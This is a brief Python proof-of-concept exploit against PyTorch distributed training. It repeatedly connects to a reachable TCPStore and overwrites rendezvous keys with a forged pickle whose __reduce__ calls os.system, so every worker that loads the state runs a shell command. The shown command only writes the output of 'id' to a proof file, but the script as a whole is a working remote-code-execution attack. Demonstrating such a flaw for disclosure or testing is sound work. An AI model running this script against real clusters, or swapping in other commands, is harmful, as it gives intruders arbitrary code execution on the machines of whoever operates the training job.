"""The attack of somebody who can reach a rendezvous store: HOST PORT PROOF, for two minutes.

torch unpickles the rendezvous state, so a forged one runs a command in each worker that reads it.
"""

import base64
import datetime as dt
import os
import pickle
import sys
import time

from torch.distributed import TCPStore

HOST, PORT, PROOF = sys.argv[1], int(sys.argv[2]), sys.argv[3]


class Payload:
    def __reduce__(self):
        return os.system, (f"id > {PROOF}",)


def main() -> None:
    value = base64.b64encode(pickle.dumps(Payload())).decode()
    end_s = time.monotonic() + 120
    while time.monotonic() < end_s:
        try:
            wait = dt.timedelta(seconds=5)
            store = TCPStore(HOST, PORT, is_master=False, wait_for_workers=False, timeout=wait)
            for name in store.list_keys():
                if "torch.rendezvous." in name and "/" not in name.strip("/"):
                    store.set(name.strip("/"), value)
                    print("overwritten", name, flush=True)
        except RuntimeError as error:  # torch's DistError: the store is not there, or has just ended
            print(str(error)[:200], flush=True)
        time.sleep(0.5)


if __name__ == "__main__":
    main()
